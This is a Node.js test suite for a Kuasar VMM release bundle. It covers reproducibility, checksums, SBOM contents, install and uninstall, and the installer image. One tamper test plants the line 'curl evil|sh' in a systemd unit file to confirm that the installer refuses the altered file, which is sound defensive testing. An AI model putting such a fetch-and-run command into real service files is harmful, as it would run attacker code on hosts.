import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { existsSync } from "node:fs";
import {
  chmod,
  copyFile,
  lstat,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  readlink,
  rm,
  symlink,
  unlink,
  utimes,
  writeFile,
} from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { promisify } from "node:util";
import { installVmm, layout, withInterpreter } from "../../../installers/install-vmm.ts";
import { IMAGE_ARCHIVE } from "../../../installers/node-installer/image-name.ts";
import { ARTIFACTS_DIR, INSTALLER_PATH } from "../../../installers/node-installer/paths.ts";
import { buildDist, type DistResult } from "../../../pipeline/dist/build.ts";
import { bundleName, SUMS, sbomName } from "../../../pipeline/dist/names.ts";
import { readLock } from "../../../pipeline/dist/npm.ts";
import { parseSums } from "../../../pipeline/dist/sums.ts";
import { artifactNames } from "../../../pipeline/installer-image/image.ts";
import { hashFile } from "../../../pipeline/lib/hash.ts";
import { toolShell } from "../../../pipeline/lib/shell.ts";
import type { BuildContext } from "../../../pipeline/lib/stage.ts";
import { AGENT_DIR } from "../../../pipeline/rootfs/validate.ts";
import { VERSION } from "../../../pipeline/stages/dist.ts";
import { BUILTIN_PATCHES } from "../../../pipeline/stages/kernel.ts";
import { nodeInstallerStage } from "../../../pipeline/stages/node-installer.ts";
import { vmmTaskStage } from "../../../pipeline/stages/vmm-task.ts";
import { cycloneDxErrors } from "./dist-cyclonedx.ts";

// The release bundle end to end, from the artifacts in bin/ (`kuasar-build all` has built them before the tests
// run; no kernel build here): built twice for reproducibility, extracted with tar, installed with install.sh into an
// empty root by a shell that has no node on its PATH, checked by the installed vmm-sandboxer, uninstalled.

const repo = path.resolve(import.meta.dirname, "../../..");
const EPOCH = 1700000000;
const run = promisify(execFile);
const runCode = (file: string, args: string[], opts: { env?: NodeJS.ProcessEnv; cwd?: string } = {}) =>
  run(file, args, { ...opts, maxBuffer: 16 << 20 }).then(
    (r) => ({ code: 0, stdout: r.stdout, stderr: r.stderr }),
    (e: { code: number; stdout: string; stderr: string }) => ({ code: e.code, stdout: e.stdout, stderr: e.stderr }),
  );

/** Every file and directory under root: "path mode sha256" (directories without a digest). */
async function tree(root: string, rel = ""): Promise<string[]> {
  const out: string[] = [];
  for (const name of (await readdir(path.join(root, rel))).sort()) {
    const r = rel ? `${rel}/${name}` : name;
    const st = await lstat(path.join(root, r));
    const mode = (st.mode & 0o7777).toString(8);
    if (st.isDirectory()) out.push(`${r}/ ${mode}`, ...(await tree(root, r)));
    else out.push(`${r} ${mode} ${await hashFile(path.join(root, r))}`);
  }
  return out;
}

/** The agent's scripts in the guest -> their bin/ names, as the task stage publishes them. */
const GUEST_SCRIPTS = Object.fromEntries(
  Object.entries(vmmTaskStage.publish)
    .filter(([rel]) => rel.endsWith(".js"))
    .map(([rel, name]) => [`/${AGENT_DIR}/${rel}`, name]),
);

describe("the release bundle", { timeout: 600_000 }, () => {
  let tmp: string;
  const builds: DistResult[] = [];
  let binA: string;
  let x: string;
  let sums: Map<string, string>;

  /** bin/ as it is now: another build may replace bin/'s files while this test runs. */
  async function snapshot(to: string): Promise<Record<string, string>> {
    await mkdir(to);
    const out: Record<string, string> = {};
    for (const n of [...artifactNames(), ...Object.values(GUEST_SCRIPTS)]) {
      const src = path.join(repo, "bin", n);
      if (!existsSync(src)) {
        throw new Error(`bin/${n} is missing; build the artifacts first: node pipeline/bin/kuasar-build.js all`);
      }
      out[n] = path.join(to, n);
      await copyFile(src, out[n]);
    }
    return out;
  }

  async function build(name: string, artifacts: Record<string, string>): Promise<DistResult> {
    const out = path.join(tmp, `out-${name}`);
    const scratch = path.join(tmp, `scratch-${name}`);
    await mkdir(out);
    await mkdir(scratch);
    return buildDist({
      repo,
      version: VERSION,
      epoch: EPOCH,
      artifacts,
      guestScripts: Object.fromEntries(Object.entries(GUEST_SCRIPTS).map(([g, n]) => [g, artifacts[n]!])),
      out,
      scratch,
    });
  }

  before(async () => {
    tmp = await mkdtemp(path.join(os.tmpdir(), "dist-bundle-"));
    binA = path.join(tmp, "bin-a");
    const a = await snapshot(binA);
    builds.push(await build("a", a));
    // A copy with other mtimes and modes (owner-only; node must still run) must give the same bundle.
    const b: Record<string, string> = {};
    await mkdir(path.join(tmp, "bin-b"));
    for (const [n, f] of Object.entries(a)) {
      b[n] = path.join(tmp, "bin-b", n);
      await copyFile(f, b[n]);
      await chmod(b[n], 0o700);
      const later = new Date(Date.now() + 3_600_000);
      await utimes(b[n], later, later);
    }
    builds.push(await build("b", b));
    x = path.join(tmp, "x");
    await mkdir(x);
    // What a user runs: GNU tar hands a .zst to zstd.
    await run("tar", ["-xf", builds[0]!.bundle, "-C", x]);
    sums = parseSums(await readFile(path.join(x, SUMS), "utf8"));
  });
  after(() => rm(tmp, { recursive: true, force: true }));

  it("is bit-reproducible: a second build from copies with other mtimes and modes gives the same digests", async () => {
    const [a, b] = builds as [DistResult, DistResult];
    assert.equal(path.basename(a.bundle), bundleName(VERSION, "x86_64"));
    for (const f of [a.bundle, a.sbom, a.sums]) {
      assert.equal(
        await hashFile(f),
        await hashFile(path.join(path.dirname(b.bundle), path.basename(f))),
        path.basename(f),
      );
    }
  });

  it("SHA256SUMS beside it covers the bundle and the SBOM", async () => {
    const out = path.dirname(builds[0]!.bundle);
    const r = await runCode("sha256sum", ["--check", "--strict", SUMS], { cwd: out });
    assert.equal(r.code, 0, r.stdout + r.stderr);
    assert.deepEqual([...parseSums(await readFile(path.join(out, SUMS), "utf8")).keys()].sort(), [
      bundleName(VERSION, "x86_64"),
      sbomName(VERSION),
    ]);
  });

  it("extracted, every file matches its SHA256SUMS, which lists every file in it", async () => {
    const files = (await tree(x)).filter((l) => !l.split(" ")[0]!.endsWith("/")).map((l) => l.split(" "));
    assert.deepEqual(files.map(([p]) => p).sort(), [...sums.keys(), SUMS].sort());
    for (const [p, , digest] of files) if (p !== SUMS) assert.equal(digest, sums.get(p!), p);
    for (const a of artifactNames()) assert.ok(sums.has(`bin/${a}`), `bin/${a} is in the bundle`);
    for (const f of ["install.sh", "lib/install.cjs", "lib/node-installer.cjs", "kubernetes/kuasar-vmm.yaml"])
      assert.ok(sums.has(f), f);
    assert.equal(
      await readFile(path.join(x, sbomName(VERSION)), "utf8"),
      await readFile(builds[0]!.sbom, "utf8"),
      "the same SBOM inside and beside",
    );
  });

  it("the SBOM lists the npm packages the programs carry, the guest's Debian packages, the kernel and node", async () => {
    const bom = JSON.parse(await readFile(builds[0]!.sbom, "utf8"));
    assert.deepEqual(cycloneDxErrors(bom), []);
    const comps = bom.components as {
      type: string;
      name: string;
      version?: string;
      purl?: string;
      "bom-ref": string;
      properties?: { name: string; value: string }[];
    }[];
    const lock = readLock(await readFile(path.join(repo, "package-lock.json"), "utf8"));
    const npm = comps.filter((c) => c.purl?.startsWith("pkg:npm/"));
    // The daemon's gRPC stack and the config parser ship; the build's own tools do not.
    for (const name of ["@grpc/grpc-js", "@bufbuild/protobuf", "smol-toml"]) {
      const c = npm.find((p) => p.name === name);
      assert.ok(c, `${name} is in the SBOM`);
      assert.equal(c.version, lock.get(`node_modules/${name}`)?.version, `${name} at the lock's version`);
    }
    for (const name of ["esbuild", "zx", "listr2", "typescript"])
      assert.ok(!npm.some((p) => p.name === name), `${name} does not ship`);

    const deb = comps.filter((c) => c.purl?.startsWith("pkg:deb/"));
    const format = ["Package", "Version"].map((f) => `\${${f}}`).join(" ");
    const installed = (await run("dpkg-query", ["-W", `-f=${format}\\n`, "busybox-static", "runc", "libc6"])).stdout;
    for (const line of installed.trim().split("\n")) {
      const [name, version] = line.split(" ");
      const c = deb.find((p) => p.name === name);
      assert.ok(c, `${name} is in the SBOM`);
      assert.equal(c.version, version, `${name} at the installed version`);
    }
    assert.ok(deb.find((p) => p.name === "libc6")?.properties?.some((p) => p.value.endsWith("/libc.so.6")));

    const km = JSON.parse(await readFile(path.join(binA, "vmlinux.manifest.json"), "utf8"));
    const kernel = comps.find((c) => c.type === "operating-system")!;
    assert.equal(kernel.version, km.kernelVersion);
    assert.ok(kernel.properties?.some((p) => p.name === "kuasar:kernel:config-sha256" && p.value === km.configSha256));
    // Every patch of kernel-configs/patches is in the kernel that was built, and the SBOM says so with its digest.
    const patchDir = path.join(repo, BUILTIN_PATCHES);
    const want = [];
    for (const n of (await readdir(patchDir)).filter((f) => f.endsWith(".patch")).sort()) {
      want.push(`${BUILTIN_PATCHES}/${n} sha256:${await hashFile(path.join(patchDir, n))}`);
    }
    assert.ok(want.length > 0);
    assert.deepEqual(
      kernel.properties?.filter((p) => p.name === "kuasar:kernel:patch").map((p) => p.value),
      want,
    );
    const node = comps.find((c) => c.type === "platform")!;
    const version = (await run(path.join(binA, "node"), ["--version"])).stdout.trim();
    assert.equal(`v${node.version}`, version);
  });

  it("install.sh on a PATH with only sh and coreutils lays out what make install-vmm does; check passes on it; uninstall empties the root", async () => {
    // No node anywhere on this PATH: install.sh must run the bundle's.
    const tools = path.join(tmp, "path");
    await mkdir(tools);
    for (const t of ["sh", "sha256sum", "dirname", "head", "uname"]) {
      const { stdout } = await run("sh", ["-c", `command -v ${t}`]);
      await symlink(stdout.trim(), path.join(tools, t));
    }
    const env = { PATH: tools };
    const root = path.join(tmp, "root");
    await mkdir(root);
    const i = await runCode(path.join(x, "install.sh"), ["--dest-dir", root, "--hypervisor", "qemu"], { env });
    assert.equal(i.code, 0, i.stdout + i.stderr);

    // make install-vmm from a checkout: installVmm over bin/ (the same artifacts).
    const fromCheckout = path.join(tmp, "root-make");
    await installVmm({ binDir: binA, destDir: fromCheckout, hypervisor: "qemu" });
    assert.deepEqual(await tree(root), await tree(fromCheckout));

    // Every installed file is the bundle's (programs with their #! pointed at the installed node).
    for (const e of layout("qemu")) {
      const installed = await hashFile(path.join(root, e.dst));
      const want = e.script
        ? await (async () => {
            const f = path.join(tmp, "script");
            await writeFile(f, withInterpreter(await readFile(path.join(x, "bin", e.src), "utf8")));
            return hashFile(f);
          })()
        : sums.get(`bin/${e.src}`);
      assert.equal(installed, want, e.dst);
    }

    // vmm-sandboxer check against the installed tree: its config with the guest paths under the root.
    const cfg = path.join(tmp, "config.toml");
    const text = await readFile(path.join(root, "var/lib/kuasar/config.toml"), "utf8");
    await writeFile(cfg, text.replaceAll('"/var/lib/kuasar/', `"${root}/var/lib/kuasar/`));
    const containerd = path.join(tmp, "containerd.toml");
    await writeFile(containerd, `version = 3\nimports = ["${root}/etc/containerd/conf.d/*.toml"]\n`);
    const check = await runCode(
      path.join(root, "usr/local/lib/kuasar-vmm/node"),
      [
        path.join(root, "usr/local/bin/vmm-sandboxer"),
        "check",
        "--json",
        "--config",
        cfg,
        "--dir",
        path.join(tmp, "state"),
        "--listen",
        "/run/vmm-sandboxer.sock",
        "--containerd-config",
        containerd,
      ],
      { env: { PATH: `${path.join(root, "usr/local/bin")}:/usr/sbin:/usr/bin:/sbin:/bin` } },
    );
    const report = JSON.parse(check.stdout) as { checks: { id: string; status: string; verdict: string }[] };
    const status = Object.fromEntries(report.checks.map((c) => [c.id, `${c.status}: ${c.verdict}`]));
    for (const id of ["config", "guest-kernel", "guest-rootfs", "containerd-config", "containerd-shim"]) {
      assert.match(status[id] ?? "missing", /^ok: /, `${id}: ${status[id]}`);
    }
    assert.match(status["guest-kernel"]!, /matches vmlinux\.manifest\.json/);

    const u = await runCode(path.join(x, "install.sh"), ["--uninstall", "--dest-dir", root], { env });
    assert.equal(u.code, 0, u.stdout + u.stderr);
    assert.deepEqual(await readdir(root), [], "the root is empty again");
  });

  it("the node-installer image is made from the bundle's own files", async () => {
    const out = path.join(tmp, "image-out");
    await mkdir(out);
    const ctx = {
      repo,
      options: { sourceDateEpoch: EPOCH },
      out,
      dep: (stage: string) => {
        assert.equal(stage, "dist", "the image reads the bundle, nothing else");
        return path.dirname(builds[0]!.bundle);
      },
      log: () => {},
      $: toolShell("node-installer", () => {}),
    } as unknown as BuildContext;
    await nodeInstallerStage.build(ctx);
    // Unpack the OCI archive and its layers as a runtime would.
    const oci = path.join(tmp, "oci");
    const rootfs = path.join(tmp, "oci-root");
    await mkdir(oci);
    await mkdir(rootfs);
    await run("tar", ["-xf", path.join(out, IMAGE_ARCHIVE), "-C", oci]);
    const [docker] = JSON.parse(await readFile(path.join(oci, "manifest.json"), "utf8")) as { Layers: string[] }[];
    for (const layer of docker!.Layers) await run("tar", ["-xzf", path.join(oci, layer), "-C", rootfs]);
    for (const name of artifactNames()) {
      const file = path.join(rootfs, ARTIFACTS_DIR, name);
      // The runtime layer's node when it is the same file, so resolve the link inside the image.
      const st = await lstat(file);
      const real = st.isSymbolicLink() ? path.join(rootfs, await readlink(file)) : file;
      assert.equal(await hashFile(real), sums.get(`bin/${name}`), name);
    }
    assert.equal(await hashFile(path.join(rootfs, INSTALLER_PATH)), sums.get("lib/node-installer.cjs"));
  });

  it("a tampered extraction is refused before anything is written", async () => {
    // A copy of the extracted tree whose unit file was altered (hard links: the big files are not copied).
    const bad = path.join(tmp, "bad");
    await run("cp", ["-al", x, bad]);
    const unit = path.join(bad, "bin/kuasar-vmm.service");
    const text = await readFile(unit, "utf8");
    await unlink(unit);
    await writeFile(unit, text.replace("ExecStart=", "ExecStartPre=/bin/sh -c 'curl evil|sh'\nExecStart="));
    const root = path.join(tmp, "root-bad");
    await mkdir(root);
    const r = await runCode(path.join(bad, "install.sh"), ["--dest-dir", root]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /do not match its SHA256SUMS/);
    assert.match(r.stderr, /kuasar-vmm\.service/);
    assert.deepEqual(await readdir(root), []);
  });

  it("a bundled node that cannot start here (no such loader, as on a musl host) is named, not a bare 'not found'", async () => {
    const dir = path.join(tmp, "no-loader");
    await mkdir(path.join(dir, "bin"), { recursive: true });
    await copyFile(path.join(x, "install.sh"), path.join(dir, "install.sh"));
    // A real ELF whose PT_INTERP names a loader that does not exist.
    const elf = await readFile("/bin/true");
    const at = elf.indexOf("ld-linux-x86-64.so.2");
    assert.ok(at > 0, "/bin/true names the x86_64 glibc loader");
    elf.write("ld-linux-x86-64.so.9", at);
    await writeFile(path.join(dir, "bin/node"), elf, { mode: 0o755 });
    const r = await runCode(path.join(dir, "install.sh"), ["--uninstall", "--dest-dir", path.join(tmp, "nowhere")]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /the bundled node \(.*\) does not run on this host \(Linux x86_64\)/);
    assert.match(r.stderr, /libc6, libstdc\+\+6/);
  });
});
